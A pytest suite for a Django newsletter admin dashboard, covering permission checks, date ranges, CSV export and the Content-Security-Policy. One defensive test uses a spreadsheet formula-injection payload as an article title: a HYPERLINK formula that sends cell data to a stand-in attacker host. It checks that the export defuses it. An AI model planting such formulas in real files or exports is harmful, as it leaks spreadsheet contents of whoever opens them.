"""Who sees which part of the dashboard, the date range, CSV, and the CSP."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission

from dashboard.figures import FIGURES
from newsletter.models import Click
from newsletter.tests.factories import built_edition, make_article, make_staff
from subscriptions.models import Membership
from subscriptions.tests.factories import make_subscriber
from testing.clock import MONDAY, MONDAY_BEFORE_SEND

pytestmark = pytest.mark.django_db

BILLING_ONLY = ("readers", "revenue", "growth", "trials", "conversion", "churn")
SENDING = ("editions", "zones", "choices")


@pytest.fixture
def billing(client):
    user = make_staff("publisher", editor=False)
    user.user_permissions.add(Permission.objects.get(codename="view_membership"))
    client.force_login(user)
    return client


@pytest.fixture
def editor(client):
    client.force_login(make_staff("editor"))
    return client


def test_anonymous_visitors_are_sent_to_the_admin_sign_in(client):
    response = client.get("/admin/dashboard/")
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/?next=/admin/dashboard/")
    assert client.get("/admin/dashboard/revenue/?format=csv").status_code == 302


def test_staff_without_either_permission_are_refused(client):
    client.force_login(make_staff("intern", editor=False))
    assert client.get("/admin/dashboard/").status_code == 403
    assert client.get("/admin/dashboard/editions/").status_code == 403


def test_billing_staff_see_every_figure(billing):
    make_subscriber(membership=Membership.Status.ACTIVE, membership_fields={"amount": 4600})
    response = billing.get("/admin/dashboard/")
    assert response.status_code == 200
    html = response.content.decode()
    for slug in BILLING_ONLY + SENDING:
        assert f'id="figure-{slug}"' in html
    assert "MRR $3.83 · ARR $46.00 · 1 paying" in html


def test_editors_see_only_sending(editor):
    html = editor.get("/admin/dashboard/").content.decode()
    for slug in SENDING:
        assert f'id="figure-{slug}"' in html
    for slug in BILLING_ONLY:
        assert f'id="figure-{slug}"' not in html
    assert "ARR" not in html
    for slug in BILLING_ONLY:
        assert editor.get(f"/admin/dashboard/{slug}/").status_code == 403
        assert editor.get(f"/admin/dashboard/{slug}/?format=csv").status_code == 403
    assert editor.get("/admin/dashboard/editions/").status_code == 200


def test_an_unknown_figure_is_not_found(billing):
    assert billing.get("/admin/dashboard/nothing/").status_code == 404


def test_the_date_range_is_a_choice(billing):
    html = billing.get("/admin/dashboard/trials/?days=30").content.decode()
    assert "Showing 1 Nov 2026 to 30 Nov 2026" in html
    assert '<strong aria-current="true">30 days</strong>' in html
    # Anything else is the default 90 days.
    for odd in ("7", "abc", "-1"):
        html = billing.get(f"/admin/dashboard/trials/?days={odd}").content.decode()
        assert "Showing 2 Sep 2026 to 30 Nov 2026" in html


def test_each_table_exports_as_csv(billing):
    make_subscriber(membership=Membership.Status.TRIALING)
    response = billing.get("/admin/dashboard/readers/?days=30&format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="readers-30d-2026-11-30.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["State", "Readers"]
    assert rows[1] == ["Trialing", "1"]
    assert len(rows) == 1 + 8
    trials = billing.get("/admin/dashboard/trials/?days=30&format=csv").content.decode()
    assert trials.splitlines()[-1] == "2026-11-30,1"  # the factory's trial began "now"


@pytest.mark.clock(MONDAY_BEFORE_SEND)
def test_a_title_written_as_a_formula_is_text_in_the_csv(editor):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    story = make_article(title=formula)
    plain = make_article(title="Harbour reopens")
    edition = built_edition(MONDAY)
    for article, clicks in ((story, 2), (plain, 1)):
        for _ in range(clicks):
            Click.objects.create(edition=edition, article=article)

    response = editor.get("/admin/dashboard/most-read/?days=30&format=csv")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Story", "Clicks", "Readers who clicked"]
    # Shown as the text it is, never run; numbers stay numbers.
    assert rows[1] == ["'" + formula, "2", ""]
    assert rows[2] == ["Harbour reopens", "1", ""]


def test_pages_pass_the_csp_and_render_accessible_charts(billing):
    response = billing.get("/admin/dashboard/")
    policy = response["Content-Security-Policy"]
    assert "script-src 'self' 'nonce-" in policy
    html = response.content.decode()
    # Charts carry no inline style or script, which the policy would block.
    assert "style=" not in html
    assert html.count('role="img"') == len(FIGURES)  # one chart per figure
    assert "<script>" not in html
    assert '<link rel="stylesheet" href="/static/dashboard/dashboard.css">' in html
    assert '<th scope="col">State</th>' in html


def test_the_admin_index_links_to_the_dashboard(client, editor):
    assert 'href="/admin/dashboard/"' in editor.get("/admin/").content.decode()
    client.force_login(make_staff("intern", editor=False))
    assert 'href="/admin/dashboard/"' not in client.get("/admin/").content.decode()
